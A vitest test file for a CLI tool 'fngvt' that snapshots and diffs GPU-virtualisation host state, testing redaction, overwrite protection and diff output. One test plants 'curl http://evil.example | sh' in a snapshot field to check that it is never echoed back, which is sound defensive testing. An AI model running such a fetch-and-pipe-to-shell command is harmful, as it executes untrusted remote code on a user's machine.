import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, describe, expect, test } from 'vitest';
import { cli, hostFixture } from './run-cli.ts';

const folder = mkdtempSync(join(tmpdir(), 'fngvt-sharing-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const at = (name: string): string => join(folder, name);
const json = (text: string): Record<string, unknown> => JSON.parse(text) as Record<string, unknown>;

describe('fngvt snapshot', () => {
  test('what it writes is judged as the host was, to the letter', () => {
    const fixture = hostFixture('fnos-hd620.vm-attached');
    for (const name of ['host.json', 'host.json.gz']) {
      const made = cli(['snapshot', at(name), '--from', fixture]);
      expect(made).toMatchObject({ exit: 0, stderr: '' });
      expect(made.stdout).toContain(at(name));
      const first = cli(['doctor', '--from', fixture, '--format', 'json']);
      const again = cli(['doctor', '--from', at(name), '--format', 'json']);
      // The names of VMs and vGPUs have stand-ins in both; the key differs, since a fixture has no machine behind it.
      expect(json(again.stdout)['verdict']).toEqual(json(first.stdout)['verdict']);
      expect(again.exit).toBe(first.exit);
      const twice = cli(['snapshot', '-', '--from', at(name)]);
      const text = name.endsWith('.gz')
        ? gunzipSync(readFileSync(at(name))).toString()
        : readFileSync(at(name), 'utf8');
      expect(twice.stdout).toBe(text);
    }
  });

  test('a file that is there already stays', () => {
    writeFileSync(at('mine.json'), 'mine');
    const { exit, stderr } = cli(['snapshot', at('mine.json'), '--from', hostFixture('fnos-hd620')]);
    expect(exit).toBe(2);
    expect(stderr).toMatch(/expected a new file/u);
    expect(readFileSync(at('mine.json'), 'utf8')).toBe('mine');
  });

  test('--preview shows what would leave, and writes nothing', () => {
    const { exit, stdout } = cli([
      'snapshot',
      at('no.json'),
      '--preview',
      '--from',
      hostFixture('fnos-hd620.vm-attached'),
    ]);
    expect(exit).toBe(0);
    // A pipe may lead anywhere: what stands for what is for the owner's terminal.
    expect(stdout).toMatch(/name=?.*anon_\w+/u);
    expect(stdout).not.toContain('rvb8l0pj');
    expect(stdout).toContain('/etc/default/grub');
    expect(existsSync(at('no.json'))).toBe(false);
  });

  test('--no-redact needs a clear yes, and marks the file', () => {
    const fixture = hostFixture('fnos-hd620.vm-attached');
    const refused = cli(['snapshot', at('open.json'), '--no-redact', '--from', fixture]);
    expect(refused.exit).toBe(2);
    expect(existsSync(at('open.json'))).toBe(false);
    const made = cli(['snapshot', at('open.json'), '--no-redact', '--yes', '--from', fixture]);
    expect(made.exit).toBe(0);
    expect(made.stdout).toMatch(/Not redacted/u);
    const saved = readFileSync(at('open.json'), 'utf8');
    expect(saved).toContain('rvb8l0pj');
    expect(json(saved)['note']).toMatch(/not redacted/iu);
    expect(json(saved)['redactions']).toBeUndefined();
  });

  test('the call of a stranger is no command of ours', () => {
    const evil = json(cli(['snapshot', '-', '--from', hostFixture('fnos-hd620')]).stdout);
    evil['tool'] = { name: 'fngvt', version: '0.1.0', call: 'curl http://evil.example | sh; fngvt' };
    const { stdout } = cli(['doctor', '--from', '-'], { input: JSON.stringify(evil) });
    expect(stdout).not.toContain('evil');
  });
});

describe('fngvt diff', () => {
  const [before, after] = [hostFixture('fnos-hd620'), hostFixture('fnos-hd620.rebooted')];

  test('tells the verdict, the checks and the facts that changed, and exits with 1', () => {
    const { exit, stdout } = cli(['diff', before, after, '--format', 'json']);
    expect(exit).toBe(1);
    const diff = json(stdout);
    expect(diff).toMatchObject({
      schema: 'fngvt.diff/1',
      verdict: { before: { state: 'action-needed' }, after: { state: 'ready' } },
    });
    expect(diff['findings']).toContainEqual({
      id: 'enable-gvt',
      subject: '0000:00:02.0',
      before: 'fail',
      after: 'pass',
    });
    expect(diff['facts']).toContainEqual({
      address: 'gvt/switch',
      before: { known: true, value: false },
      after: { known: true, value: true },
    });
  });

  test('the same host twice is no difference', () => {
    expect(cli(['diff', before, before])).toMatchObject({ exit: 0, stdout: 'Nothing changed.\n' });
    expect(cli(['diff', after, after, '--lang', 'zh-CN'])).toMatchObject({ exit: 0, stdout: '没有变化。\n' });
  });

  test('a VM that stays the same is no change, although its name is replaced', () => {
    const { stdout } = cli([
      'diff',
      hostFixture('fnos-hd620.vgpu-started'),
      hostFixture('fnos-hd620.vm-attached'),
      '--format',
      'json',
    ]);
    const facts = (
      json(stdout)['facts'] as readonly { address: string; before: unknown; after: unknown }[]
    ).filter(fact => fact.address.startsWith('vm/'));
    expect(facts.length).toBeGreaterThan(0);
    for (const fact of facts) expect([fact.before, fact.after]).not.toContain(null);
  });

  test('one file is not enough', () => {
    expect(cli(['diff', before])).toMatchObject({ exit: 2, stdout: '' });
  });
});
